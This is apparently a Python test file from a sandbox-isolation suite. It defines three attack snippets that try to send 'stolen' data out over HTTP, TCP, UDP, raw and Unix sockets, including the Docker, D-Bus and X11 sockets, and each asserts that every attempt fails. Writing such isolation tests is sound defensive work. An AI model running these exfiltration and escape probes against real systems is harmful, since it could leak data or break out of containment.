"""Reaching out: each tries to send to the servers of the test, which count what comes."""

from hostile import Attack

ATTACKS = [
    Attack(
        "urllib and plain sockets to the host",
        """
        import socket, urllib.request
        reached = []
        hosts = ["127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.0.1", OUTSIDE["address"]]
        for host in hosts:
            try:
                urllib.request.urlopen(f"http://{host}:{OUTSIDE['port']}/stolen", timeout=1)
                reached.append(host)
            except OSError:
                pass
            try:
                socket.create_connection((host, OUTSIDE["port"]), timeout=1).sendall(b"stolen")
                reached.append(host)
            except OSError:
                pass
        leak(("ran", reached))
        assert not reached, reached
        """,
        leaks=True,
        sample=True,
    ),
    Attack(
        "names, datagrams and raw sockets",
        """
        import socket
        reached = []
        try:
            reached.append(socket.getaddrinfo("example.org", 80))
        except OSError:
            pass
        for host in ("127.0.0.1", OUTSIDE["address"], "8.8.8.8"):
            for port in (OUTSIDE["datagrams"], 53):
                try:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                        line.sendto(b"stolen", (host, port))
                except OSError:
                    pass
        packet, bluetooth, kernel_crypto, machine = 17, 31, 38, 40
        for family, kind in ((2, socket.SOCK_RAW), (packet, socket.SOCK_RAW), (bluetooth, socket.SOCK_RAW),
                             (kernel_crypto, socket.SOCK_SEQPACKET), (machine, socket.SOCK_STREAM)):
            try:
                socket.socket(family, kind)
                reached.append(family)
            except OSError:
                pass
        leak(("ran", reached))
        assert not reached, reached
        """,
        leaks=True,
    ),
    Attack(
        "sockets in files and without names",
        r"""
        import os, socket
        reached = []
        for name in ("\0" + OUTSIDE["unnamed"], "/run/docker.sock", "/var/run/docker.sock",
                     "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", OUTSIDE["socket"]):
            try:
                with socket.socket(socket.AF_UNIX) as line:
                    line.connect(name)
                    line.sendall(b"stolen")
                    reached.append(name)
            except OSError:
                pass
        leak(("ran", reached))
        assert not reached, reached
        """,
        leaks=True,
    ),
]
